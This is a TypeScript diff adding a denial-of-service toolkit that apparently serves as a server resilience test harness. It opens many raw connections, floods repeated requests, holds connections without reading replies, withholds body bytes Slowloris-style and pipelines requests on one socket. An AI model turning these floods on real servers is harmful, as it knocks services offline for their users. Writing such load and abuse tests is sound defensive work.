@@ -1,0 +1,104 @@
+import { connect, type Socket } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+
+/** Whom an attack is made on, and with what. */
+export interface Target {
+  readonly url: string;
+  /** A valid key of the attacker's own account. */
+  readonly key: string;
+  /** The same of several accounts that are in league, the first of them included. */
+  readonly keys: readonly string[];
+  readonly signal: AbortSignal;
+}
+
+export interface Flood {
+  readonly connections: number;
+  /** What every connection sends again and again. */
+  readonly bytes: (target: Target) => Buffer | string;
+  /** Whether answers are read; a client that does not read keeps the server's buffers full. */
+  readonly reads?: boolean;
+  /** How long a connection rests after each sending. */
+  readonly restMs?: number;
+  /** Sends once and then only holds the connection open. */
+  readonly once?: boolean;
+}
+
+const RECONNECT_MS = 20;
+
+/** Keeps so many connections busy until the attack is called off. */
+export async function flood(target: Target, how: Flood): Promise<void> {
+  await Promise.all(Array.from({ length: how.connections }, () => keepBusy(target, how)));
+}
+
+async function keepBusy(target: Target, how: Flood): Promise<void> {
+  while (!target.signal.aborted) {
+    const socket = await open(target);
+    if (socket === null) {
+      await sleep(RECONNECT_MS);
+      continue;
+    }
+    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
+    const end = () => socket.destroy();
+    target.signal.addEventListener("abort", end, { once: true });
+    if (how.reads !== false) socket.resume();
+    await send(socket, target, how, closed);
+    target.signal.removeEventListener("abort", end);
+    socket.destroy();
+  }
+}
+
+async function send(socket: Socket, target: Target, how: Flood, closed: Promise<void>) {
+  while (!socket.destroyed && !target.signal.aborted) {
+    const isTaken = socket.write(how.bytes(target));
+    if (how.once) {
+      await closed;
+      return;
+    }
+    if (!isTaken) {
+      const drained = new Promise<void>((resolve) => socket.once("drain", () => resolve()));
+      await Promise.race([drained, closed]);
+    }
+    await sleep(how.restMs ?? 0);
+  }
+}
+
+function open({ url }: Target): Promise<Socket | null> {
+  const { hostname, port } = new URL(url);
+  return new Promise((resolve) => {
+    const socket = connect(Number(port), hostname);
+    socket.once("connect", () => resolve(socket));
+    socket.once("error", () => resolve(null));
+    socket.on("error", () => {});
+  });
+}
+
+interface Request {
+  readonly method?: string;
+  readonly path: string;
+  readonly key?: string;
+  readonly body?: string | Buffer;
+  readonly headers?: Readonly<Record<string, string>>;
+  /** Bytes of the body that never come. */
+  readonly withheld?: number;
+}
+
+/** A request as it goes over the wire. */
+export function wire(request: Request): Buffer {
+  const body = Buffer.from(request.body ?? "");
+  const lines = [
+    `${request.method ?? "GET"} ${request.path} HTTP/1.1`,
+    "Host: longwave",
+    ...(request.key === undefined ? [] : [`Authorization: Bearer ${request.key}`]),
+    ...Object.entries(request.headers ?? {}).map(([name, value]) => `${name}: ${value}`),
+    ...(request.body === undefined
+      ? []
+      : ["Content-Type: application/json", `Content-Length: ${body.length}`]),
+  ];
+  const sent = body.subarray(0, body.length - (request.withheld ?? 0));
+  return Buffer.concat([Buffer.from(`${lines.join("\r\n")}\r\n\r\n`), sent]);
+}
+
+/** The same request many times, one behind the other on one connection. */
+export function pipelined(count: number, request: Request): Buffer {
+  return Buffer.concat(Array.from({ length: count }, () => wire(request)));
+}
